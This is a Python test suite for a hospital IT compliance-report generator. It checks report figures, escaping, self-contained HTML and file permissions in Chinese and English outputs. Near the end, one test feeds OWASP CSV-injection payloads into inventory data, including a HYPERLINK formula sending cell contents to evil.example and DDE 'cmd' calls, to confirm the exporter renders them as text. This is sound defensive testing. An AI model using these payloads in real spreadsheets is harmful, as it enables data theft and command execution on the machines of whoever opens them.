"""Reports from a store with known data: numbers against the store, every format, both languages."""

from __future__ import annotations

import csv
import json
import sqlite3
from pathlib import Path
from typing import Any

import lxml.html
import openpyxl
import pytest
from ansible_collections.hisops.him.plugins.plugin_utils.migrations import MIGRATIONS, Migration
from ansible_collections.hisops.him.plugins.plugin_utils.report import sections as report_sections
from ansible_collections.hisops.him.plugins.plugin_utils.report.model import Column
from ansible_collections.hisops.him.plugins.plugin_utils.store import Batch, open_store

from .conftest import run_cli
from .reportdata import expected_latest, make_store

# each test carries its layer: unit, or component where it runs an Ansible command
COMPLIANT = ("pass", "fixed", "exempt")


def _html(path: Path) -> Any:
    return lxml.html.fromstring(path.read_text(encoding="utf-8"))


def _html_table(doc: Any, key: str) -> list[list[str]]:
    """Body rows (not group headings) of the table after <h3 id="t-KEY">."""
    heading = doc.get_element_by_id("t-" + key)
    table = heading.getnext()
    assert table.tag == "table", key
    return [[td.text_content() for td in tr.findall("td")] for tr in table.iter("tr") if tr.findall("td")]


def _expected_by_department(period: str = "2026-11") -> dict[str, float]:
    from .reportdata import HOSTS

    totals: dict[str, list[int]] = {}
    for (host, _control), status in expected_latest(period).items():
        acc = totals.setdefault(HOSTS[host][0], [0, 0])
        acc[0] += status in COMPLIANT
        acc[1] += 1
    return {dept: c / n for dept, (c, n) in totals.items()}


@pytest.mark.unit
def test_html_numbers_match_the_store_and_the_known_data(zh_report: dict[str, Path], known_store: str) -> None:
    doc = _html(zh_report["html"])
    store = open_store(known_store, migrate=False)
    try:
        api = {r["department"]: r for r in store.compliance_by_department("2026-11-01", "2026-12-01")}
        summary = store.compliance_summary("2026-11-01", "2026-12-01")
    finally:
        store.close()
    expected = _expected_by_department()
    rows = {r[0]: r for r in _html_table(doc, "by_department")}
    assert set(rows) == set(api) == set(expected) == {"outpatient", "inpatient", "it"}
    for dept, row in rows.items():
        assert row[-1] == "%.1f" % (api[dept]["rate"] * 100) == "%.1f" % (expected[dept] * 100)
        # Hosts: those with results plus the unreachable one (ws-zy-02), which is a host with findings.
        hosts = {h for (h, _c) in expected_latest() if _dept(h) == dept} | (
            {"ws-zy-02"} if dept == "inpatient" else set()
        )
        assert int(row[3]) == len(hosts)
        assert int(row[5]) == {"inpatient": 2, "outpatient": 0, "it": 0}[dept]
    assert rows["outpatient"][1:3] == ["门诊部", "张丽"]
    kpi = doc.xpath('//section[@id="summary"]//div[contains(@class, "kpi")]/div[@class="v"]/text()')
    assert kpi[0] == "%.1f%%" % (summary["rate"] * 100) == "81.8%"
    # Top failing: inpatient's storage (fail) and antivirus (error), one host each.
    top = _html_table(doc, "top_failing")
    assert {r[0] for r in top} == {"HIM-7.4-storage", "HIM-7.7-antivirus"}
    # By control: the October run is outside the period (its failures do not count).
    by_control = {r[0]: r for r in _html_table(doc, "by_control")}
    assert by_control["HIM-5.4-games"][-1] == "100.0" and by_control["HIM-5.4-games"][1] == "禁止游戏软件"
    assert by_control["HIM-7.4-storage"][2] == "七.4, 五.4"


def _dept(host: str) -> str:
    from .reportdata import HOSTS

    return HOSTS[host][0]


@pytest.mark.unit
def test_html_detail_evidence_runs_manual_and_changes(zh_report: dict[str, Path]) -> None:
    doc = _html(zh_report["html"])
    ids = [s.get("id") for s in doc.iter("section")]
    assert ids == [
        "summary", "period", "departments", "hosts", "exemptions", "runs", "assets", "switch_changes", "host_changes",
        "manual", "rulebook",
    ]  # fmt: skip
    findings = _html_table(doc, "findings")
    assert [(r[0], r[1], r[3]) for r in findings] == [
        ("ws-zy-01", "HIM-7.4-storage", "不合格"),
        ("ws-zy-01", "HIM-7.7-antivirus", "错误"),
    ]
    # Evidence is text, escaped: a '<b>' in evidence never becomes markup.
    assert "found: 发现问题 <b>&x</b>\nsecond line" in findings[0][-1]
    assert not doc.xpath("//section[@id='hosts']//td//b")
    failing = {r[0]: r for r in _html_table(doc, "failing_hosts")}
    assert set(failing) == {"ws-zy-01", "ws-zy-02"}
    assert failing["ws-zy-02"][2] == "不可达"
    assert len(_html_table(doc, "runs")) == 2  # the October run is not in November
    manual = _html_table(doc, "manual_controls")
    assert len(manual) == 7 and all(r[5] == "人工" for r in manual)
    changes = _html_table(doc, "switch_changes")
    assert len(changes) == 1 and changes[0][2] == "sw-core-01" and "vlan 20" in changes[0][7]
    # the enforce run's change on a workstation; the check run's "would remove" is not a change
    changes = _html_table(doc, "host_changes")
    assert [(r[1], r[2], r[7]) for r in changes] == [("3", "ws-mz-01", "removed: 2048")]
    runs = _html_table(doc, "runs")
    assert [(r[3], r[11], r[12]) for r in runs] == [("完成", "是", "5"), ("完成", "否", "3")]
    assets = _html_table(doc, "assets")
    assert {r[0] for r in assets} == {"ws-mz-01", "ws-mz-02", "ws-zy-01", "sw-core-01", "db-01"}
    assert _html_table(doc, "duplicate_serials") == [["无"]]  # every host its own serial


@pytest.mark.unit
def test_html_is_self_contained(zh_report: dict[str, Path]) -> None:
    text = zh_report["html"].read_text(encoding="utf-8")
    doc = _html(zh_report["html"])
    assert not doc.xpath("//script | //link | //img | //iframe | //object")
    assert not [e for e in doc.xpath("//*[@src]")]
    assert not [h for h in doc.xpath("//@href") if not h.startswith("#")]
    assert "@import" not in text and "url(http" not in text
    assert len(doc.xpath("//svg")) == 3 and "<text" in text  # charts keep text as text (CJK by the browser)
    svg_ids = doc.xpath("//svg//@id")
    assert len(svg_ids) == len(set(svg_ids))


@pytest.mark.unit
def test_xlsx_has_the_same_tables(zh_report: dict[str, Path], known_store: str) -> None:
    book = openpyxl.load_workbook(zh_report["xlsx"])
    assert book.sheetnames[0] == "领导摘要"
    for name in ("按科室合规率", "按控制项合规率", "不合格项及证据", "主机合规汇总", "资产", "人工检查项", "检查运行"):
        assert name in book.sheetnames
    ws = book["按科室合规率"]
    header = [c.value for c in ws[1]]
    assert header[:3] == ["科室代码", "科室", "负责人"] and header[-1] == "合规率 (%)"
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref and ws["A1"].font.b
    rates = {row[0]: row[-1] for row in ws.iter_rows(min_row=2, values_only=True)}
    expected = _expected_by_department()
    assert rates == pytest.approx({d: round(r, 4) for d, r in expected.items()})
    hosts = book["主机合规汇总"]
    assert {r[0] for r in hosts.iter_rows(min_row=2, values_only=True) if r[0]} == {
        "ws-mz-01", "ws-mz-02", "ws-zy-01", "ws-zy-02", "sw-core-01", "db-01"}  # fmt: skip
    findings = list(book["不合格项及证据"].iter_rows(min_row=2, values_only=True))
    assert [(r[1], r[2], r[4]) for r in findings] == [
        ("ws-zy-01", "HIM-7.4-storage", "不合格"),
        ("ws-zy-01", "HIM-7.7-antivirus", "错误"),
    ]
    assert findings[0][-1] == "found: 发现问题 <b>&x</b>\nsecond line"


@pytest.mark.unit
def test_csv_files_are_versioned_with_english_column_ids(zh_report: dict[str, Path], known_store: str,
                                                         tmp_path: Path) -> None:  # fmt: skip
    folder = zh_report["csv"]
    names = sorted(p.name for p in folder.iterdir())
    assert "findings.csv" in names and "by_department.csv" in names and "hosts.csv" in names
    assert "failing_hosts.csv" not in names  # an HTML-only view
    raw = (folder / "by_department.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0] == ["#hisops-report-csv", "2", "by_department", "zh"]
    assert rows[1][:3] == ["department", "department_name", "custodian"] and rows[1][-1] == "rate"
    # rates on the JSON's scale (0..1), the same values as the JSON's table
    assert {r[0]: float(r[-1]) for r in rows[2:]} == {d: round(r, 4) for d, r in _expected_by_department().items()}
    doc = json.loads(zh_report["json"].read_text(encoding="utf-8"))
    table = next(t for s in doc["sections"] for t in s["tables"] if t["key"] == "by_department")
    assert [c["key"] for c in table["columns"]] == rows[1]
    assert {r["department"]: r["rate"] for r in table["rows"]} == {r[0]: float(r[-1]) for r in rows[2:]}
    findings = list(csv.reader((folder / "findings.csv").read_text(encoding="utf-8-sig").splitlines(keepends=True)))
    assert {r[findings[1].index("status")] for r in findings[2:]} == {"fail", "error"}  # codes, not 不合格
    labels = list(csv.reader((folder / "columns.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert labels[0] == ["#hisops-report-csv", "2", "columns", "zh"] and labels[1] == [
        "table",
        "column",
        "kind",
        "label",
    ]
    assert ["by_department", "department", "text", "科室代码"] in labels
    assert {(r[0], r[1]) for r in labels[2:]} >= {("by_department", c) for c in rows[1]}
    # the ids do not depend on the report's language
    code, files, err = run_cli("--store", known_store, "--period", "2026-11", "--lang", "en", "--format", "csv",
                               "--out", str(tmp_path))  # fmt: skip
    assert code == 0, err
    for path in files[0].iterdir():
        en = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
        zh = list(csv.reader((folder / path.name).read_text(encoding="utf-8-sig").splitlines()))
        assert en[0][:3] == zh[0][:3] and en[0][3] == "en" and en[1] == zh[1], path.name


@pytest.mark.unit
def test_json_document(zh_report: dict[str, Path]) -> None:
    doc = json.loads(zh_report["json"].read_text(encoding="utf-8"))
    assert doc["schema"] == "hisops-report" and doc["schema_version"] == 2
    assert doc["meta"]["period"] == "2026-11" and doc["meta"]["runs"] == 2
    tables = {t["key"]: t for s in doc["sections"] for t in s["tables"]}
    assert "failing_hosts" not in tables and "hosts" in tables
    findings = tables["findings"]
    assert findings["total"] == len(findings["rows"]) == 2
    latest = expected_latest()
    for row in findings["rows"]:
        assert latest[(row["host"], row["control_id"])] == row["status"]
    # each finding in one translated line; the check's own (English) output verbatim beside it
    lines = {(r["control_id"], r["finding"], r["message"]) for r in findings["rows"]}
    assert lines == {("HIM-7.4-storage", "不合格：未经审批的移动存储可以使用", "fail on ws-zy-01"),
                     ("HIM-7.7-antivirus", "错误：检查本身出错，无法判断是否合规", "error on ws-zy-01")}  # fmt: skip
    by_dept = {r["department"]: r["rate"] for r in tables["by_department"]["rows"]}
    assert by_dept == pytest.approx({d: round(r, 4) for d, r in _expected_by_department().items()})
    summary = next(s for s in doc["sections"] if s["key"] == "summary")
    assert summary["kpis"]["rate"] == pytest.approx(0.8182)
    assert summary["kpis"]["hosts"] == 6 and summary["kpis"]["failing_hosts"] == 2


@pytest.mark.unit
def test_quarter_includes_october(known_store: str, tmp_path: Path) -> None:
    code, files, err = run_cli(
        "--store", known_store, "--period", "2026-Q4", "--format", "json", "--out", str(tmp_path)
    )
    assert code == 0, err
    doc = json.loads(files[0].read_text(encoding="utf-8"))
    tables = {t["key"]: t for s in doc["sections"] for t in s["tables"]}
    # a quarter's trend is by month, over the full check runs (nov-2 enforces: not in it)
    assert doc["meta"]["runs"] == 3 and [r["key"] for r in tables["trend"]["rows"]] == ["2026-10", "2026-11"]
    by_dept = {r["department"]: r["rate"] for r in tables["by_department"]["rows"]}
    assert by_dept == pytest.approx({d: round(r, 4) for d, r in _expected_by_department("2026-Q4").items()})


@pytest.mark.component
def test_english_labels_and_inventory_names(known_store: str, tmp_path: Path) -> None:
    root = Path(__file__).resolve().parents[3]
    code, files, err = run_cli("--store", known_store, "--period", "2026-11", "--format", "html,xlsx", "--lang", "en",
                               "--inventory", str(root / "inventory" / "lab"), "--out", str(tmp_path))  # fmt: skip
    assert code == 0, err
    html = next(p for p in files if p.suffix == ".html")
    doc = _html(html)
    assert doc.get("lang") == "en"
    assert doc.xpath("//h2")[0].text_content() == "Summary for leadership"
    text = html.read_text(encoding="utf-8")
    for chinese in ("领导摘要", "合规率", "不合格", "科室"):
        assert chinese not in text
    rows = {r[0]: r for r in _html_table(doc, "by_department")}
    assert rows["outpatient"][1] == "Outpatient" and rows["it"][1] == "Information Department"
    assert rows["outpatient"][2] == "张丽"  # the person in charge the store recorded
    book = openpyxl.load_workbook(next(p for p in files if p.suffix == ".xlsx"))
    assert "Compliance by department" in book.sheetnames


@pytest.mark.unit
def test_sections_without_data_are_left_out(tmp_path: Path) -> None:
    store = make_store(tmp_path / "bare.sqlite", with_assets=False, with_changes=False)
    code, files, err = run_cli("--store", store, "--period", "2026-11", "--format", "html,json", "--out", str(tmp_path))
    assert code == 0, err
    doc = _html(next(p for p in files if p.suffix == ".html"))
    ids = [s.get("id") for s in doc.iter("section")]
    assert "assets" not in ids and "switch_changes" not in ids and "hosts" in ids
    # A period without runs: the summary says so, and nothing else but the manual controls and the
    # rulebook coverage matrix (both from the catalog and the rulebook, not from the store).
    code, files, err = run_cli("--store", store, "--period", "2025", "--format", "html", "--out", str(tmp_path))
    assert code == 0, err
    doc = _html(files[0])
    assert [s.get("id") for s in doc.iter("section")] == ["summary", "manual", "rulebook"]
    assert "没有合规检查记录" in doc.text_content()


@pytest.mark.unit
def test_a_new_record_kind_is_a_table_and_a_section(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    backup = Migration(
        len(MIGRATIONS) + 1,
        "test: media handover",
        ("CREATE TABLE media_handover (run_id INTEGER NOT NULL, host TEXT NOT NULL, medium TEXT NOT NULL, "
         "custodian TEXT NOT NULL, recorded_at TEXT NOT NULL)",),
    )  # fmt: skip
    path = tmp_path / "ext.sqlite"
    store = open_store(str(path), migrations=(*MIGRATIONS, backup))
    store.start_run({"uuid": "b-1", "started": "2026-11-05T01:00:00.000000Z", "mode": "enforce"})
    store.close()
    monkeypatch.setattr(report_sections, "SECTIONS", list(report_sections.SECTIONS))
    from ansible_collections.hisops.him.plugins.plugin_utils.report import i18n

    monkeypatch.setitem(i18n.CATALOG, "section.media_handover", ("介质交接", "Media handover"))
    monkeypatch.setitem(i18n.CATALOG, "col.medium", ("介质", "Medium"))
    report_sections.register(
        report_sections.RecordSection(
            "media_handover",
            "section.media_handover",
            [Column("host", "col.host"), Column("medium", "col.medium"), Column("custodian", "col.custodian")],
        )
    )
    code, files, err = run_cli("--store", str(path), "--period", "2026-11", "--format", "html", "--out", str(tmp_path))
    assert code == 0, err
    assert "media_handover" not in [s.get("id") for s in _html(files[0]).iter("section")]  # no rows: no section
    store = open_store(str(path), migrations=(*MIGRATIONS, backup))
    batch = Batch("b-1", extra={"media_handover": [{"host": "db-01", "medium": "LTO-8 #12", "custodian": "王伟",
                                                    "recorded_at": "2026-11-05T01:30:00.000000Z"}]})  # fmt: skip
    store.write(batch)
    store.close()
    code, files, err = run_cli("--store", str(path), "--period", "2026-11", "--format", "html", "--out", str(tmp_path))
    assert code == 0, err
    doc = _html(files[0])
    assert "media_handover" in [s.get("id") for s in doc.iter("section")]
    assert _html_table(doc, "media_handover") == [["db-01", "LTO-8 #12", "王伟"]]


@pytest.mark.unit
def test_reports_are_never_overwritten(known_store: str, tmp_path: Path) -> None:
    first = run_cli("--store", known_store, "--period", "2026-11", "--format", "json,csv", "--out", str(tmp_path))
    second = run_cli("--store", known_store, "--period", "2026-11", "--format", "json,csv", "--out", str(tmp_path))
    assert first[0] == second[0] == 0
    assert len(set(first[1]) | set(second[1])) == 4
    assert all(p.exists() for p in first[1] + second[1])
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".tmp-")]


@pytest.mark.unit
@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--period", "2026-13"], "month 13"),
        (["--period", "November"], "unknown period 'November'"),
        (["--period", "2026-11", "--format", "pdf"], "unknown --format pdf"),
        (["--period", "2026-11", "--target", "95"], "--target 95.0 is not a compliance rate"),
    ],
)
def test_bad_input_is_a_clear_error(known_store: str, tmp_path: Path, args: list[str], message: str) -> None:
    code, files, err = run_cli("--store", known_store, "--out", str(tmp_path), *args)
    assert code == 2 and files == []
    assert err.startswith("hisops report: error: ") and message in err


@pytest.mark.unit
def test_missing_store_and_unwritable_out_dir(known_store: str, tmp_path: Path) -> None:
    code, _, err = run_cli("--store", str(tmp_path / "nope.sqlite"), "--period", "2026-11", "--out", str(tmp_path))
    assert code == 2 and "does not exist" in err and "nope.sqlite" in err
    assert not (tmp_path / "nope.sqlite").exists()  # a report never creates a store
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    code, _, err = run_cli("--store", known_store, "--period", "2026-11", "--out", str(blocker / "reports"))
    assert code == 2 and "cannot write reports to" in err and "--out" in err
    not_a_store = tmp_path / "text.sqlite"
    not_a_store.write_text("hello")
    code, _, err = run_cli("--store", str(not_a_store), "--period", "2026-11", "--out", str(tmp_path))
    assert code == 2 and "file is not a database" in err, err
    empty = tmp_path / "empty.sqlite"
    conn = sqlite3.connect(empty)
    conn.execute("CREATE TABLE other (x)")
    conn.close()
    code, _, err = run_cli("--store", str(empty), "--period", "2026-11", "--out", str(tmp_path))
    assert code == 2 and "is not a hisops results store" in err, err


@pytest.mark.unit
def test_detail_caps_say_where_the_rest_is(known_store: str, tmp_path: Path) -> None:
    code, files, err = run_cli("--store", known_store, "--period", "2026-11", "--format", "html,xlsx",
                               "--html-rows", "1", "--xlsx-rows", "1", "--out", str(tmp_path))  # fmt: skip
    assert code == 0, err
    doc = _html(next(p for p in files if p.suffix == ".html"))
    assert len(_html_table(doc, "failing_hosts")) == 1
    note = doc.get_element_by_id("t-failing_hosts").getnext().getnext()
    assert note.get("class") == "note" and "共 2 行" in note.text_content()
    sheet = openpyxl.load_workbook(next(p for p in files if p.suffix == ".xlsx"))["不合格项及证据"]
    values = [r for r in sheet.iter_rows(min_row=2, values_only=True) if any(r)]
    assert len(values) == 2 and "findings.csv" in values[-1][0]  # one finding, then the note


@pytest.mark.unit
def test_trend_buckets_of_the_headline_runs(known_store: str) -> None:
    from ansible_collections.hisops.him.plugins.plugin_utils.report.period import parse_period
    from ansible_collections.hisops.him.plugins.plugin_utils.report.source import ReportSource, open_report_store

    store = open_report_store(known_store)
    try:
        source = ReportSource(store, parse_period("2026-Q4"))
        per_run = source.trend("run")
        per_day = source.trend("day")
        per_month = source.trend()
        source.close()
    finally:
        store.close()
    assert [(p["key"], p["runs"], p["total"]) for p in per_run] == [("oct-1", 1, 9), ("nov-1", 1, 11)]
    assert [p["key"] for p in per_day] == ["2026-10-15", "2026-11-03"]
    assert [(p["key"], p["total"], p["rate"]) for p in per_month] == [("2026-10", 9, 0.0), ("2026-11", 11, 0.7273)]


@pytest.mark.unit
def test_same_report_without_the_index_on_run_and_status(known_store: str, tmp_path: Path) -> None:
    """The per-run statistics of a store without the index on (run_id, status) (schema version 2,
    which a report does not migrate: two passes) give the same report as those from the index
    (counts in one pass, id ranges by index look-ups)."""
    import shutil

    unindexed = tmp_path / "unindexed.sqlite"
    shutil.copy(known_store, unindexed)
    with sqlite3.connect(unindexed) as conn:
        conn.execute("DROP INDEX control_results_run_status")
    docs = []
    for store in (known_store, str(unindexed)):
        out = tmp_path / ("out-%d" % len(docs))
        code, files, err = run_cli("--store", store, "--period", "2026-Q4", "--format", "json", "--out", str(out))
        assert code == 0, err
        doc = json.loads(files[0].read_text(encoding="utf-8"))
        docs.append({t["key"]: t["rows"] for s in doc["sections"] for t in s["tables"] if t["key"] != "runs"})
    assert docs[0] == docs[1] and docs[0]["trend"]
    indexed, two_pass = (_run_stats(store) for store in (known_store, str(unindexed)))
    assert indexed == two_pass and len(indexed) == 3
    assert [(s["lo"], s["hi"], s["n"]) for s in indexed.values()] == [(1, 9, 9), (10, 20, 11), (21, 23, 3)]


def _run_stats(path: str) -> dict[int, dict[str, Any]]:
    from ansible_collections.hisops.him.plugins.plugin_utils.report.period import parse_period
    from ansible_collections.hisops.him.plugins.plugin_utils.report.source import ReportSource, open_report_store

    with open_report_store(path) as store:
        source = ReportSource(store, parse_period("2026-Q4"))
        try:
            keys = ("lo", "hi", "n", "pass", "fail", "fixed", "exempt", "error")
            return {run: {k: int(s[k]) for k in keys} for run, s in source.run_stats().items()}
        finally:
            source.close()


# OWASP CSV injection payloads as inventory data (a custodian's name, a staff id)
HOSTILE = {
    "outpatient": ("门诊部", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0"),
    "inpatient": ("住院部", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
    "it": ("信息科", "\t=1+1", "\r=1+1"),
}


@pytest.mark.unit
def test_csv_cells_that_would_run_as_formulas_are_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from . import reportdata

    monkeypatch.setattr(reportdata, "DEPARTMENTS", HOSTILE)
    store = reportdata.make_store(tmp_path / "hostile.sqlite")
    code, files, err = run_cli("--store", store, "--period", "2026-11", "--format", "csv", "--out", str(tmp_path))
    assert code == 0, err
    cells = [
        cell
        for path in files[0].iterdir()
        for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines(keepends=True))
        for cell in row
    ]
    written = [c for c in cells if "cmd|" in c or "HYPERLINK" in c or "=1+1" in c]
    assert len(written) >= 6, written  # every payload made it into the export
    assert all(c.startswith("'") for c in written), written
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and "cmd" in c)]


@pytest.mark.unit
@pytest.mark.parametrize(
    ("text", "cell"),
    [("=1+1", "'=1+1"), ("-3", "-3"), ("-2.5%", "-2.5%"), ("-x", "'-x"), ("@a", "'@a"), ("王伟", "王伟"), ("", "")],
)
def test_csv_cell(text: str, cell: str) -> None:
    from ansible_collections.hisops.him.plugins.plugin_utils.report.render_csv import csv_cell

    assert csv_cell(text) == cell


@pytest.mark.unit
def test_reports_and_the_store_are_readable_by_their_owner_only(known_store: str, zh_report: dict[str, Path]) -> None:
    import stat

    assert stat.S_IMODE(Path(known_store).stat().st_mode) == 0o600
    for path in zh_report.values():
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path
        for child in path.iterdir() if path.is_dir() else []:
            assert stat.S_IMODE(child.stat().st_mode) == 0o600, child


@pytest.mark.unit
def test_xlsx_times_print_setup_and_empty_tables(zh_report: dict[str, Path]) -> None:
    import datetime as dt

    book = openpyxl.load_workbook(zh_report["xlsx"])
    hosts = book["主机合规汇总"]
    header = [c.value for c in hosts[1]]
    seen = [r[header.index("最后采集")] for r in hosts.iter_rows(min_row=2, values_only=True) if r[0]]
    assert seen and all(isinstance(v, dt.datetime) for v in seen)  # real date-times, not text
    assert hosts.page_setup.orientation == "landscape" and str(hosts.page_setup.paperSize) == "9"
    assert hosts.print_title_rows == "$1:$1"
    empty = book["未检查的控制项及原因"]  # nothing went unchecked in this store
    assert empty["A2"].value == "无"
    assert all(name == name.strip() for name in book.sheetnames)


@pytest.mark.unit
def test_html_empty_table_says_none(zh_report: dict[str, Path]) -> None:
    doc = _html(zh_report["html"])
    assert _html_table(doc, "not_checked") == [["无"]]


@pytest.mark.unit
def test_duplicate_serial_numbers_are_flagged(tmp_path: Path) -> None:
    path = tmp_path / "dup.sqlite"
    with open_store(str(path)) as store:
        store.start_run({"uuid": "d-1", "started": "2026-11-05T01:00:00.000000Z", "mode": "check"})
        batch = Batch("d-1")
        for host, serial in (("sw-1", "FOC123"), ("sw-2", "FOC123"), ("sw-3", "FOC999"), ("ws-1", "")):
            batch.hosts.append({"host": host, "department": "it", "kind": "switch", "status": "ok"})
            batch.assets.append({"host": host, "department": "it", "serial": serial, "mac": "00:11:22:33:44:55"})
        store.write(batch)
        store.finish_run("d-1", "ok")
    code, files, err = run_cli("--store", str(path), "--period", "2026-11", "--format", "json", "--out", str(tmp_path))
    assert code == 0, err
    doc = json.loads(files[0].read_text(encoding="utf-8"))
    tables = {t["key"]: t for s in doc["sections"] for t in s["tables"]}
    assert tables["duplicate_serials"]["rows"] == [{"serial": "FOC123", "hosts": 2, "names": "sw-1, sw-2"}]
    assert {r["mac"] for r in tables["assets"]["rows"]} == {"00:11:22:33:44:55"}
